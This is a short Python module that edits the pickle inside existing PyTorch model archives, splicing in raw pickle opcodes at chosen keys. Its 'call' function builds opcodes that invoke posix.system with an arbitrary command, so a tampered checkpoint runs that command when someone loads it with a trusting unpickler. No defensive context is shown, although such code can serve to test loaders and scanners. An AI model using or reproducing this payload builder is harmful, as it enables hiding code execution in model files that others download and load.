"""Put values into the pickles of torch files that are there already, without torch and as bytes of the pickle."""

from __future__ import annotations

import pickle
import zipfile
from pathlib import Path
from typing import Any


def set_item(path: Path, keys: list[Any], value: bytes) -> None:
    """Let ``root[keys[0]][keys[1]]...`` be what these operations of a pickle make; without keys the root itself."""
    with zipfile.ZipFile(path) as archive:
        entries = {name: archive.read(name) for name in archive.namelist()}
    name = next(name for name in entries if name.endswith("data.pkl"))
    # Behind the root, which is on the stack when the pickle ends: a key, a dict for each further key, the value.
    head = b"".join(operations(key) + b"}" for key in keys[:-1])
    planted = head + operations(keys[-1]) + value + b"s" * len(keys) if keys else b"0" + value
    entries[name] = entries[name][:-1] + planted + b"."
    with zipfile.ZipFile(path, "w") as archive:
        for other, raw in entries.items():
            archive.writestr(other, raw)


def call(command: str) -> bytes:
    """The operations that run a command where a pickle is trusted; what it makes is the command's exit status."""
    text = command.encode()
    return b"cposix\nsystem\nX" + len(text).to_bytes(4, "little") + text + b"\x85R"


def operations(value: Any) -> bytes:
    """The operations that make a plain value."""
    return pickle.dumps(value, 2)[2:-1]
